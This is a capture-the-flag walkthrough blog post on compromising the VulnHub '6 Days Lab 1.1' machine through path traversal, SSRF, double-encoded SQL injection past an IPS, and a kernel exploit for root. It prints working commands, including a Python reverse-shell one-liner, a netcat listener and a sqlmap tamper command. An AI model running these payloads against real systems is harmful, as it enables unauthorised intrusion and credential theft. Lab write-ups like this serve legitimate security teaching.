Capture the flag (CTF)

6 Days Lab 1.1 CTF Walkthrough

LetsPen Test
April 28, 2018 by
LetsPen Test

In this article, we will attempt to complete another Capture the Flag (CTF) challenge which was posted on the VulnHub website by "CanYouPwn.Me." is a platform which provides vulnerable applications/machines to gain practical hands-on experience in the field of information security. You can review my previous articles for more CTF challenges.

The link to download the VM and run it in a VirtualBox is as follows:

What should you learn next?

What should you learn next?From SOC Analyst to Secure Coder to Security Manager — our team of experts has 12 free training plans to help you hit your goals. Get your free copy now.

The torrent download URL is also available for this VM, which you can find in the reference section of this article. For those who are not aware of the site, is a well-known website for security researchers to provide users with a way to learn and practice their hacking skills. You can download the vulnerable machines from that website and try to exploit them.

In this article we will be exploiting the following webapplication vulnerabilities:

  1. Path Traversal Vulnerability;
  2. SQL Injection Vulnerability;
  3. Server-Side Request Forgery (SSRF) Vulnerability.

Note: As this is a CTF walkthrough, I will not be covering the basics of the above vulnerabilities.

Step: 1

After downloading and running this machine on, I started by running a Netdiscover command to obtain the IP Address of the target machine.

Command Used: netdiscover

We have obtained the Virtual Machine IP address, i.e., (the Target Machine IP Address).

We will now be using as the attacker IP address.

Please Note: The Target and the Attacker machine IP address may be different on the network configuration.

Step: 2

The first step is always to find out the ports and services that are available on the target machine. The Nmap full port scan is usedfor this purpose.

Command Used: nmap -v -Pn -p- {Here –v is used for verbose mode, -Pn is used for No Ping Scan and –p- is used for full port scan}

The Nmap scan results provided two open ports on the target machine. One port is HTTP-proxy/8080. It is filtered, and thus, it catches my attention.

When I opened the target machine IP on the web browser, it opened a webpage about a particular Intrusion Prevention System (IPS). According to the information given on the homepage, the target machine has recently launched a brand new IPS product. This is also being used it to monitor security on their own website.

As always, I started exploring the application for vulnerabilities. I found my first entry point in which we can enter the promo code on the webpage. I started exploring this parameter to find other types of vulnerabilities. However, I did not get anything as all my requests were getting blocked by the IPS implemented on the target application.I tried to add a single quote in the URL to verify any error-based SQL injections, but the IPS blocked the request. After that, I tried to fuzz the parameter, but all the payloads were blocked by the IPS as well. I also tried different encoding techniques to bypass the IPS but didn't get any success in that either.

Step: 3

I ran the Dirb Utility against the target machine to enumerate other possible web pages and directories. It gave some useful directories which could be explored further. You may check the DirB output in the screenshot seen below:

Command Used: dirb

From the Dirb output, I checked all the identified directories one by one, but the IPS blocked everything.I tried to access the URL by using the curl utility. However, instead, I got a server response which says, "Malicious Request Blocked."

So, I again came back to the homepage on the target machine. I closely observed the HTML content of the page for any further clue; there I found an "src" parameter on the image.php page. This is attempting to call an image from an external source.

The first thing that came to my mind is that it might be vulnerable a Remote File Inclusion (RFI), but it could not be that easy.While testing the other possible vulnerabilities in the URL, I discovered that the "src" parameter is vulnerable to the Path Traversal Vulnerability. I extracted the /etc/passwd file by exploiting the src parameter.

Payload Used: ../../../../../etc/passwd

From the /etc/password file, we can see that there are two users on the target system which are "user" and "andrea." Andera's shell is set to /bin/andrea.

Next, I tried to extract the other files that are available on the target system.

As can be seen in the highlighted area, the user input parameter is directly interacting with the MySQL query. This means that it is vulnerable to a SQL injection attack to occur. However, we cannot exploit the SQL injection since the IPS is enabled in the application and it will block the request.

Next, I extracted the Apache default configuration file by exploiting the path traversal vulnerability. This was identified in the previous step.

There is another website service running on the 8080 port. However, it is not publicly accessible as it is filtered. So, I tried to access this port locally by exploring the combination of the Path Traversal Vulnerability and the Server-Side Request Forgery (SSRF) hoping that the IPS might be disabled for port no 8080. When the IPS service is disabled, we can then exploit the SQL injection vulnerability to get the information from the database.

First, I tried to access the index.php.

We can get the response on port 8080. Now we can verify whether the IPS has been disabled on this port or not. I tried to add a single quote with the parameter value.

The request is again blocked; it means that the IPS is running on port 8080as well. After spending some time on this and playing with a few encoding techniques, I was then able to bypass it by using a double URL encoding payload.

Let's enter this encoded payloadinto the parameter to see if this gets bypassed as well.

I was able to bypass the IPS, and as we already know from the previous steps, a parameter is vulnerable to SQL Injection. So, let us try to exploit it by using the SQLmap. To do this, we will have to run an exploit of the combination of Path Traversal + SSRF + SQL Injection. So, let's do a small change in the Burp Suite to work with the SSRF.

First, we must open the match and replace the section in Burp Suite.

Next, I click on the Add button, and a popup will open. I now must add the matching condition as illustrated in the screenshot below:

Once this configuration is saved, Burp Suite will then automatically change theURL.

We can see in the above screenshot that Burp Suite is accepting our configuration and auto modifying the request to the one that we have already configured. Next, I run the SQL map to exploit the SQL Injection vulnerability.

I tried to run the SQLmap onto the URL, but SQLmap is not working because of the presence of the IPS. To bypass the firewall, certain special characters need to be double URL encoded for our payloads to get executed.Command Used: sqlmap -r sqlmap --risk=3 --level=5 --proxy= --tamper=chardoubleencode --dbms=mysql --dbs

As a result, we have successfully exploited the SQL Injection and obtained the password of the user "andrea." As we know, andrea already exists on the target system, so I tried using this password for the ssh login on the target system.

The login credentials are correct. As a result of this, we finally got the user access to the target machine.

After getting the user access to the target system, I tried next to run the commands for further analysis. However, it seemed that the commands were getting executed, but no output was being displayed. I also noticed that the symbol ' /' is also blocked on the target machine.

The error messages returned by the executed command revealed some information about the restricted shell. It is an 'rbash' restricted shell. Because of this, we will have to find another way to execute commands on the target system.Command Used:

  1. nc –lvp 4444 {on another terminal to, listening on port 4444 for reverse connection}
  2. python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);["/bin/sh","-i"]);'

    {Python command to get the other reverse shell}

We executed a command to get another reverse shell which will bypass the rbash restrictions on the target machine. Now, we can run the commands to explore the machine or try to gain root access.

Command Used: cat /etc/issueAs can be seen in the above screenshot, the target machine is running Ubuntu 12.04.5. A Google search gave me a local exploit to escalate the privilege to root.

Next, I downloaded the exploit onto my local system and transferred it to the target system by using the wget command.

Now, the exploit is downloaded onto the target machine. Next, I compile the exploit and run it.


What should you learn next?

What should you learn next?

From SOC Analyst to Secure Coder to Security Manager — our team of experts has 12 free training plans to help you hit your goals. Get your free copy now.

  1. gcc 37292.c -o exploitThis command is to compile the Exploit by using the gcc compiler.
  2. chmod +x exploit
    This command gives executable permission to the exploit.
  3. ./exploit
    This command runs the exploit to get the root.

As can be seen in the above screenshot, we have obtained the root access on the target machine. The challenge is now completed.LetsPen Test
LetsPen Test